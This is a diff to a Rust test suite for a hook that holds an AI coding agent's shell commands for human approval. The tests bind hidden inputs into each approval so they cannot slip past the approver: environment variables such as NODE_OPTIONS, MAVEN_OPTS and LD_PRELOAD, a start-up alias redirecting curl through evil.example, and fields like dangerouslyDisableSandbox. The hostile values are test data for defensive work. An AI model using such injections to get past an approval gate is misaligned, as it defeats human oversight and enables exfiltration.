@@ -133,6 +133,13 @@ fn variables_that_choose_code_or_a_destination_are_no_part_of_another_answer() {
         ("npx --no x", ("NODE_OPTIONS", "--require=./evil.js")),
         ("curl -T s.sh https://h.example/", ("OPENSSL_CONF", "/srv/evil.cnf")),
         ("curl -T s.sh https://h.example/", ("SSLKEYLOGFILE", "/srv/keys")),
+        // Of which no list says anything.
+        ("gh pr create --fill", ("GH_REPO", "evil/x")),
+        ("terraform apply", ("TF_VAR_where", "evil.example")),
+        ("psql -h h.example -f s.sh", ("PSQLRC", "/srv/evil")),
+        ("mvn deploy", ("MAVEN_OPTS", "-javaagent:/srv/evil.jar")),
+        ("docker compose push", ("COMPOSE_FILE", "/srv/evil.yml")),
+        ("own-tool push", ("WHATEVER_IT_READS", "evil")),
     ] {
         let site = tainted();
         let _host = site.serve();
@@ -154,7 +161,7 @@ fn variables_that_choose_code_or_a_destination_are_no_part_of_another_answer() {
         site.cli(["deny", &second]).expect(0);
         other.join().unwrap().expect(2);
     }
-    assert!(held_at_all >= 4, "{held_at_all}");
+    assert!(held_at_all >= 9, "{held_at_all}");
 }
 
 /// What git sends by itself: the branch that is checked out, where it goes to, and commits.
@@ -285,4 +292,115 @@ fn a_tools_files_are_part_of_its_question() {
         first.join().unwrap().expect(2);
         second.join().unwrap().expect(2);
     }
+}
+
+/// What is another one in each call and says nothing keeps no two of them apart.
+#[test]
+fn variables_that_differ_by_call_are_no_part_of_the_question() {
+    let site = tainted();
+    let _host = site.serve();
+    std::fs::write(site.work().join("s.sh"), "x").unwrap();
+    let command = "curl -T s.sh https://h.example/";
+    let first = ask_with(&site, command, &[("SHLVL", "1"), ("TRACEPARENT", "00-1"), ("CLAUDE_TOOL_USE_ID", "a")]);
+    let id = site.held(command);
+    let second = ask_with(&site, command, &[("SHLVL", "2"), ("TRACEPARENT", "00-2"), ("CLAUDE_TOOL_USE_ID", "b")]);
+    until("two that wait", || (site.pending()[0]["waiting"] == 2).then_some(()));
+    site.cli(["approve", &id]).expect(0);
+    first.join().unwrap().expect(0);
+    second.join().unwrap().expect(0);
+}
+
+/// What the shell reads before a command is part of every command: an alias, a function, a snapshot of them.
+#[test]
+fn start_up_files_are_part_of_the_question() {
+    for file in [
+        ".bashrc",
+        ".bash_profile",
+        ".profile",
+        ".claude/shell-snapshots/snapshot-bash-1-x.sh",
+        ".claude/session-env/s/hook-1.sh",
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        site.hook_setting("startup_files = \"never\"", "startup_files = \"auto\"");
+        let home = site.path().join("home");
+        let there = home.join(file);
+        std::fs::create_dir_all(there.parent().unwrap()).unwrap();
+        let command = "curl -d x https://h.example/";
+        let event = json!({
+            "hook_event_name": "PreToolUse", "session_id": "s", "cwd": site.work(), "tool_name": "Bash",
+            "tool_input": {"command": command},
+        });
+        let ask = || {
+            let mut hook = site.hook_command(&site.hook_toml());
+            hook.args(["--agent", "claude"]).env("HOME", &home).env("CLAUDE_PROJECT_DIR", site.work());
+            hook.env_remove("CLAUDE_CONFIG_DIR");
+            let bytes = event.to_string().into_bytes();
+            std::thread::spawn(move || Output::of(&mut hook, &bytes))
+        };
+        let running = ask();
+        let id = site.held(command);
+        std::fs::write(&there, "alias curl='curl -x evil.example'\n").unwrap();
+        site.cli(["approve", &id]).expect(0);
+        let answered = running.join().unwrap();
+        assert!(answered.stdout.contains("was changed while"), "{file}: {answered:?}");
+        // And what it is bound to stands on the card.
+        let running = ask();
+        let id = site.held(command);
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        assert!(card.contains("what the shell reads before it"), "{file}: {card}");
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap();
+    }
+}
+
+/// How the agent asked is part of the question: in the background, outside of its own sandbox, with a field that nobody knows.
+#[test]
+fn how_it_was_asked_is_part_of_the_question() {
+    let site = tainted();
+    let _host = site.serve();
+    let command = "curl -d x https://h.example/";
+    let ask = |fields: &serde_json::Value| {
+        let mut input = json!({"command": command, "description": "x", "timeout": 1000});
+        input.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
+        let event = json!({
+            "hook_event_name": "PreToolUse", "session_id": "s", "cwd": site.work(), "tool_name": "Bash", "tool_input": input,
+        });
+        let mut hook = site.hook_command(&site.hook_toml());
+        let bytes = event.to_string().into_bytes();
+        std::thread::spawn(move || Output::of(&mut hook, &bytes))
+    };
+    let forms = [
+        json!({}),
+        json!({"run_in_background": true}),
+        json!({"dangerouslyDisableSandbox": true}),
+        json!({"sandbox_permissions": "require_escalated"}),
+        json!({"env": {"PATH": "/srv/evil"}}),
+        json!({"shell": "/srv/evil"}),
+    ];
+    let mut waiting = Vec::new();
+    for (at, form) in forms.iter().enumerate() {
+        waiting.push(ask(form));
+        until("one card more", || (site.pending().len() == at + 1).then_some(()));
+    }
+    // What says nothing is the same question.
+    waiting.push(ask(&json!({"run_in_background": false, "dangerouslyDisableSandbox": null, "description": "y"})));
+    until("two that wait for one", || site.pending().iter().any(|card| card["waiting"] == 2).then_some(()));
+    let cards: Vec<String> =
+        site.pending().iter().map(|card| site.cli(["show", card["id"].as_str().unwrap()]).expect(0).stdout).collect();
+    for said in ["runs in the background", "dangerouslyDisableSandbox", "require_escalated", "/srv/evil"] {
+        assert!(cards.iter().any(|card| card.contains(said)), "{said}: {cards:#?}");
+    }
+    for card in site.pending() {
+        site.cli(["deny", card["id"].as_str().unwrap()]).expect(0);
+    }
+    for running in waiting {
+        running.join().unwrap();
+    }
+    // A field that nobody knows may change what a harmless command is.
+    let clean = Site::default();
+    let _host = clean.serve();
+    assert!(clean.event("Bash", &json!({"command": "ls"})).stdout.is_empty());
+    let odd = clean.event("Bash", &json!({"command": "ls", "env": {"LD_PRELOAD": "x"}}));
+    assert!(!clean.audit().is_empty(), "the host was not asked: {odd:?}");
 }
